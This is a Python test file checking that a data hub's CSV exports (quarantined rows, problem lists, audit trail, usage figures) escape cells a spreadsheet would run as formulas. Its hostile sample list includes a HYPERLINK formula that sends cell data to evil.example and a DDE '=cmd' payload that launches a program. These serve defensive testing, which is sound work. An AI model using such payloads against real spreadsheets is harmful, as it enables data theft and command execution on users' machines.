"""CSV formula injection: every CSV the hub writes for people to open neutralises cells a
spreadsheet would run as a formula (hub.spreadsheet), keeping numbers that are numbers — the
quarantined rows and problems of a run, the audit trail, the usage figures (the data
downloads: tests/test_downloads.py, the quarterly report: tests/test_workspace_audit.py)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from hub import audit
from hub.db import Database
from hub.intake.runs import Run, _csv, problems_csv
from hub.jobs import Job
from hub.spreadsheet import safe_cell, safe_cells
from hub.store import Store
from hub.usage import Usage, csv_lines

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1;"Klick")', "+49 3531 1234", "-2+3",
           "@SUMME(A1:A9)", "\tTab vorn", "\rWagenrücklauf vorn", "=1+1", "-Minus vorn"]
NUMBERS = ["-12", "+3.5", "-1,5", "1e3", "-2.5E-3", "42"]
PLAIN = ["ok = kein Formelanfang", "'schon ein Apostroph", "", "Straße; Müller"]


def test_risky_text_gets_an_apostrophe_numbers_and_plain_text_do_not() -> None:
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    for value in NUMBERS + PLAIN:
        assert safe_cell(value) == value
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    column = pa.array(HOSTILE + NUMBERS + PLAIN + [None])
    assert safe_cells(column).to_pylist() == [safe_cell(v) for v in column.to_pylist()]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_quarantined_rows_and_problems_cannot_run_formulas(tmp_path: Path) -> None:
    values = HOSTILE + NUMBERS
    path = tmp_path / "quarantine.parquet"
    pq.write_table(pa.table({"name": values, "plaetze": list(range(-len(values), 0)),
                             "_errors": [f"{v}: kein Datum" for v in values]}), path)
    rows = rows_of(b"".join(_csv(pq.ParquetFile(path))).decode("utf-8"))
    assert rows[0] == ["name", "plaetze", "_errors"]
    for row, value, number in zip(rows[1:], values, range(-len(values), 0), strict=True):
        assert row[0] == safe_cell(value) and row[1] == str(number)  # numbers stay numbers
        assert row[2] == safe_cell(f"{value}: kein Datum")
    assert [r[0][0] for r in rows[1:len(HOSTILE) + 1]] == ["'"] * len(HOSTILE)
    job = Job(id="j1", kind="ingest", params={}, organization="sozialamt", dataset="pflege",
              submitted_by="sam", state="done", progress=1.0, message="", error=None,
              result={"status": "committed", "problems": [
                  {"file": "=datei.csv", "row": 3, "column": "@spalte", "value": value,
                   "rule": "type", "message": "-kaputt"} for value in HOSTILE]},
              attempts=1, max_attempts=1, claimed_by=None, heartbeat=None,
              lease_expires=None, created="2026-01-01", started=None, finished=None)
    problems = rows_of(problems_csv(Run(job)).decode("utf-8"))
    for row, value in zip(problems[1:], HOSTILE, strict=True):
        assert row == ["'=datei.csv", "3", "'@spalte", "'" + value, "type", "'-kaputt"]


def test_the_audit_trail_and_usage_exports_cannot_run_formulas(tmp_path: Path) -> None:
    db = Database.for_store(tmp_path / "store")
    Store(tmp_path / "store", database=db)  # migrated
    audit.record(db, actor="=cmd|' /C calc'!A0", action="record.update", subject="@pflege",
                 before={"title": "Alt"}, after={"title": "=1+1"})
    entries = rows_of("".join(audit.csv_lines(db)))
    row = dict(zip(entries[0], entries[1], strict=True))
    assert row["actor"] == "'=cmd|' /C calc'!A0" and row["subject"] == "'@pflege"
    usage = Usage("pflege", {"2026-01-02": {"view": 3}})
    lines = rows_of("".join(csv_lines([usage], {"pflege": "+Pflege =SUMME(A1)"})))
    assert lines[1][:4] == ["pflege", "'+Pflege =SUMME(A1)", "2026-01-02", "3"]
